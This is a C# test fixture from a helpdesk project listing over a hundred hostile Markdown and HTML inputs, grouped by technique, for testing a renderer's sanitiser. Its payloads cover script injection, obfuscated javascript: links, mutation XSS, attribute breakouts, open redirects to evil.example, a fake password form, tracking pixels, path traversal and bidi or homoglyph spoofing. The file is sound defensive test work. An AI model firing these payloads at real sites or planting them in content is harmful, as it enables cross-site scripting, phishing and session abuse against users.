namespace Helpdesk.Tests.Platform.Markdown;

/// <summary>Messages that were written to break out, each with what it tries.</summary>
internal static class HostileMarkdown
{
    public static readonly (string Kind, string Text)[] All =
    [
        // Raw HTML
        ("raw", "<script>alert(1)</script>"),
        ("raw", "Hello <img src=x onerror=alert(1)> there"),
        ("raw", "<IMG SRC=\"jav&#x09;ascript:alert(1);\">"),
        ("raw", "<iframe src=\"https://evil.example\"></iframe>"),
        ("raw", "<div onmouseover=\"alert(1)\" style=\"position:fixed;inset:0\">x</div>"),
        ("raw", "<style>body{background:url(//evil.example/a)}</style>\n\ntext"),
        ("raw", "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>"),
        ("raw", "<a href=\"javascript:alert(1)\">x</a>"),
        ("raw", "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=//evil.example\">"),
        ("raw", "<object data=\"data:text/html,<script>alert(1)</script>\"></object><embed src=//evil.example>"),
        ("raw", "</main></body></html><h1>New page</h1>"),
        ("raw", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
        ("raw", "<!-- --!><script>alert(1)</script> -->"),
        ("raw", "<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]><!DOCTYPE html>"),
        ("raw", "<h1>Big</h1>\n\n# Big too\n\n###### Small"),
        ("raw", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("raw", "<svg/onload=alert(1)>\n<math><mtext></mtext></math>"),
        ("raw", "<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>"),

        // Schemes
        ("scheme", "[x](javascript:alert(1))"),
        ("scheme", "[x](JaVaScRiPt:alert(1))"),
        ("scheme", "[x](javascript&colon;alert(1))"),
        ("scheme", "[x](java&#115;cript:alert(1))"),
        ("scheme", "[x](&#x6A;&#x61;vascript&#58;alert(1))"),
        ("scheme", "[x](<java\tscript:alert(1)>)"),
        ("scheme", "[x](java&Tab;script:alert(1))"),
        ("scheme", "[x](java&NewLine;script:alert(1))"),
        ("scheme", "[x](&#1;javascript:alert(1))"),
        ("scheme", "[x](< javascript:alert(1)>)"),
        ("scheme", "[x](<&#32;javascript:alert(1)>)"),
        ("scheme", "[x](\u00A0javascript:alert(1))"),
        ("scheme", "[x](\u2003javascript:alert(1))"),
        ("scheme", "[x](\u200Bjavascript:alert(1))"),
        ("scheme", "[x](java\u00ADscript:alert(1))"),
        ("scheme", "[x](javas\u0441ript:alert(1))"),
        ("scheme", "[x](ｊavascript:alert(1))"),
        ("scheme", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("scheme", "[x](vbscript:msgbox(1)) [y](livescript:x) [z](mocha:x)"),
        ("scheme", "[x](file:///etc/passwd) [y](blob:https://a.example/1) [z](about:blank)"),
        ("scheme", "[x](view-source:https://a.example) [y](ms-word:ofe|u|https://a.example)"),
        ("scheme", "[x](javascript\\:alert(1)) [y](javascript%3Aalert(1))"),
        ("scheme", "[x](https:javascript:alert(1)) [y](https:/evil.example) [z](http:evil.example)"),
        ("scheme", "[x](feed:javascript:alert(1)) [y](jar:https://a.example!/)"),
        ("scheme", "[x](javascript://https://a.example/%0Aalert(1))"),

        // Addresses that lead elsewhere than they look
        ("address", "[x](//evil.example/a)"),
        ("address", "[x](/\\evil.example) [y](\\\\evil.example) [z](/\\/evil.example)"),
        ("address", "[x](///evil.example) [y](/%09/evil.example)"),
        ("address", "[x](</\t/evil.example>) [y](</&NewLine;/evil.example>) [z](/&Tab;/evil.example)"),
        ("address", "[x](https:\\\\evil.example) [y](https:///evil.example) [z](https://)"),
        ("address", "[x](https://bank.example@evil.example/) [y](https://a:b@evil.example)"),
        ("address", "[x](../../admin) [y](admin/users) [z](?a=b) [w](#top) [v]()"),
        ("address", "[x](mailto:) [y](mailto:a@b.example?subject=%0ABcc:c@d.example)"),
        ("address", "[x](https://evil.example/" + new string('a', 5_000) + ")"),

        // Attributes
        ("attribute", "[x](https://a.example \"t\\\" onmouseover=\\\"alert(1)\")"),
        ("attribute", "[x](https://a.example 'a\"onclick=\"alert(1)')"),
        ("attribute", "[x](https://a.example/\"onmouseover=\"alert(1))"),
        ("attribute", "[x](<https://a.example/\" onclick=alert(1) x=\">)"),
        ("attribute", "[x](https://a.example (title &quot; onfocus=alert&#40;1&#41; autofocus &quot;))"),
        ("attribute", "![a\" onerror=\"alert(1)](/files/1/a.png)"),
        ("attribute", "![a](/files/1/a.png\"onerror=\"alert(1))"),
        ("attribute", "```js\" onclick=\"alert(1)\nx\n```"),
        ("attribute", "```\"><script>alert(1)</script>\nx\n```"),
        ("attribute", "```&quot;&gt;&lt;script&gt;\nx\n```"),
        ("attribute", "```js class=x style=position:fixed\nx\n```"),
        ("attribute", "```" + new string('a', 21) + "\nx\n```\n\n```JS\ny\n```\n\n```c++\nz\n```"),
        ("attribute", "# x {onclick=alert(1)}\n\n[x](/a){onclick=alert(1) target=_blank} {#id .class style=x}"),
        ("attribute", "| a {onclick=x} |\n|:--\"onclick=x|\n| b |"),
        ("attribute", "# Heading\n\n## Heading\n\n[x]: #heading\n[x]"),
        ("attribute", "99999999999. a\n\n0012. b\n\n-1. c"),

        // Autolinks
        ("autolink", "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,x>"),
        ("autolink", "<https://a.example/\"onclick=\"x> <https://a.example/><script>"),
        ("autolink", "javascript:alert(1) data:text/html,x vbscript:x ftp://a.example tel:123"),
        ("autolink", "https://a.example/\"onmouseover=\"alert(1) https://a.example/<script>"),
        ("autolink", "www.a.example/<img/src=x> WWW.EVIL.EXAMPLE http://[::1]/ http://@evil.example"),
        ("autolink", "<mailto:a@b.example> <a@b.example\"onclick=x> mailto:x@y.example\"onclick=\"x"),
        ("autolink", "https://evil.example\u202Egpj.exe https://a.example/\u0000x"),

        // References
        ("reference", "[x]\n\n[x]: javascript:alert(1)"),
        ("reference", "[x][1] ![y][1]\n\n[1]: <data:text/html,a> \"t\" "),
        ("reference", "[x][a] [x][A]\n\n[a]: //evil.example\n[A]: java&#x0A;script:x"),
        ("reference", "[x]\n\n[x]: https://a.example \"\\\"><script>alert(1)</script>\""),
        ("reference", "[[x]: https://a.example]: javascript:x\n\n[^1]\n\n[^1]: <script>x</script>"),

        // Pictures
        ("picture", "![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2Zz4=)"),
        ("picture", "![x](https://evil.example/pixel.gif) ![y](//evil.example/p.gif) ![z](/\\evil.example/p.gif)"),
        ("picture", "![x](/files/../sign-out) ![y](/files/%2e%2e/sign-out) ![z](/files/..%2Fsign-out) ![w](/files//evil.example)"),
        ("picture", "![x](/files/.%2E/sign-out) ![y](/FILES/1) ![z](/files\\..\\x) ![w](/files/%5c%2e)"),
        ("picture", "![](https://evil.example/a.png) ![ ](x) ![\n](/files/1/a.png)"),
        ("picture", "[![x](https://evil.example/a.png)](javascript:alert(1)) [![x](javascript:x)](https://a.example)"),
        ("picture", "![![![x](javascript:x)](data:x)](https://a.example/x.png \"onerror=x\")"),
        ("picture", "![x\u202Egnp.exe](mailto:a@b.example) ![<script>](https://evil.example/<script>)"),

        // Nested and unfinished
        ("unfinished", "[x](https://a.example [y](javascript:alert(1)) ![z]("),
        ("unfinished", "[[[[x](https://a.example)](https://b.example)](javascript:x)](data:x)"),
        ("unfinished", "**_~~`[x](javascript:x)~~_** `<script>` ~~~\n<script>"),
        ("unfinished", "> - > - > 1. ```\n> <script>alert(1)</script>"),
        ("unfinished", "| <script> | `|` |\n|--|--|\n| [x](javascript:x) | ![y](data:x) | <td onclick=x> |"),
        ("unfinished", "- [ ] <script>\n- [x] [y](javascript:x)\n- [X](data:x)\n- [ ](vbscript:x)"),
        ("unfinished", "    <script>alert(1)</script>\n\n\t<img src=x onerror=alert(1)>"),
        ("unfinished", "``` <script>\n</code></pre><script>alert(1)</script>"),
        ("unfinished", "`</code><script>alert(1)</script>` ``<img src=x>``"),

        // Shapes that some parsers turn into something else on the second reading
        ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
        ("mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
        ("mutation", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
        ("mutation", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">"),
        ("mutation", "<table><td><a href=x><table><a href=javascript:x>y"),
        ("mutation", "<select><template><style></select><img src=x onerror=alert(1)>"),
        ("mutation", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &LT;b&GT;"),
        ("mutation", "\\<script\\>alert(1)\\</script\\> &amp;lt;script&amp;gt; &#x3c;&#0060;&#00000060;"),
        ("mutation", "<xmp><p title=\"</xmp><script>alert(1)</script>\"><plaintext>"),

        // Characters
        ("character", "[https://bank.example](https://evil.example/\u202Eelpmaxe.knab//:sptth)"),
        ("character", "\u202Edesrever\u202C and \u2067isolated\u2069 and \u202Aembedded"),
        ("character", "a\0b <scr\0ipt>alert(1)</scr\0ipt> [x](java\0script:alert(1)) &#0; &#x0;"),
        ("character", "\u001B[31mred\u001B[0m \u0008\u0007 \u007F \u0085 \u009F"),
        ("character", "\uFEFF<script>\uFEFF [x](\uFEFFjavascript:x) \uFFFE \uFFFF \u2028<b>\u2029<i>"),
        ("character", "＜script＞alert(1)＜/script＞ ‹script› \u00ABscript\u00BB +ADw-script+AD4-"),
        ("character", "[x](https://a.example/\u2028onclick=x) [y](https://a\u3000b.example) [z](https://аpple.example)")
    ];

    public static TheoryData<int, string> Numbered
    {
        get
        {
            var data = new TheoryData<int, string>();
            for (int i = 0; i < All.Length; i++)
            {
                data.Add(i, All[i].Kind);
            }
            return data;
        }
    }
}
